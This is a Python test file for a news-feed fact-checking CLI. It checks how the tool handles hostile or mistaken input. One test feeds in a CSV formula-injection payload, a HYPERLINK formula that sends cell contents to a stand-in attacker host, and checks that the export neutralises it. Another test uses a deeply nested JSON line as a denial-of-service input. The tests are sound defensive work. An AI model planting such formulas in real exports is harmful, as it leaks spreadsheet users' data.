"""Hostile or mistaken input at the command line (issue 14): one line saying what is wrong,
a non-zero exit where nothing was done, never a traceback, and the rest of the work done."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from factwatch.cli import main


@pytest.fixture
def db(tmp_path) -> str:
    url = f"sqlite:///{tmp_path / 'fw.db'}"
    result = CliRunner().invoke(main, ["--db", url, "init"])
    assert result.exit_code == 0, result.output
    return url


def _one_line_error(result, *words: str) -> str:
    assert result.exit_code != 0, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output
    message = [line for line in result.output.splitlines() if line.startswith("Error")]
    assert len(message) == 1, result.output
    for word in words:
        assert word in message[0], message[0]
    return message[0]


def test_csv_export_does_not_pass_formulas_to_spreadsheets(db):
    query = (
        "SELECT '=HYPERLINK(\"http://evil.example/?\"&A1, \"read\")' AS title, "
        "'+1+2' AS a, '@SUM(A1)' AS b, 'Plain title' AS c, -3 AS n"
    )
    result = CliRunner().invoke(main, ["--db", db, "sql", query, "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[1] == [
        "'=HYPERLINK(\"http://evil.example/?\"&A1, \"read\")",
        "'+1+2",
        "'@SUM(A1)",
        "Plain title",
        "-3",
    ]


def test_extract_refuses_an_unsupported_language():
    result = CliRunner().invoke(main, ["extract", "--lang", "ja"], input="売上は5%増えた。")
    line = _one_line_error(result, "unsupported language 'ja'")
    assert "zh" in line and result.exit_code == 2


def test_extract_jsonl_skips_a_deeply_nested_line_and_goes_on():
    lines = [
        json.dumps({"id": 1, "text": "Sales rose 5 % in 2024."}),
        "[" * 100_000 + "]" * 100_000,
        json.dumps({"id": 3, "text": "Prix en hausse de 7 %.", "lang": "fr"}),
        json.dumps({"id": 4, "text": "売上は5%増えた。", "lang": "ja"}),
    ]
    result = CliRunner().invoke(
        main, ["extract", "--lang", "en", "--jsonl"], input="\n".join(lines) + "\n"
    )
    assert result.exit_code == 0, result.output
    out = [json.loads(x) for x in result.stdout.splitlines()]
    assert [o["id"] for o in out] == [1, 3]
    assert [c["value"] for o in out for c in o["claims"]] == [5.0, 7.0]
    assert "line 2: skipped, nested too deeply" in result.stderr
    assert "line 4: skipped, unsupported language 'ja'" in result.stderr


@pytest.mark.parametrize("day", ["9999-12-31", "1900-01-01"])
def test_digest_preview_of_an_impossible_day_is_refused(db, day):
    result = CliRunner().invoke(main, ["--db", db, "digest", "preview", "--date", day])
    _one_line_error(result, day, "--date")


def test_the_same_feed_in_other_letters_is_not_added_twice(db):
    runner = CliRunner()
    first = runner.invoke(main, ["--db", db, "feeds", "add", "https://news.example.org/rss/"])
    assert first.exit_code == 0, first.output
    again = runner.invoke(
        main, ["--db", db, "feeds", "add", "HTTPS://News.Example.ORG:443/rss/#latest"]
    )
    assert again.exit_code != 0
    assert "already registered" in again.output and "Traceback" not in again.output
    listed = runner.invoke(main, ["--db", db, "feeds", "list"])
    assert listed.output.count("news.example.org") == 1, listed.output


@pytest.mark.parametrize(
    "command",
    [["feeds", "list"], ["digest", "list"], ["digest", "preview"], ["feeds", "remove", "1"]],
)
def test_commands_on_a_mistyped_database_path_create_nothing(tmp_path, command):
    missing = tmp_path / "typo.db"
    result = CliRunner().invoke(main, ["--db", str(missing), *command])
    assert result.exit_code != 0 and "does not exist" in result.output
    assert not missing.exists()
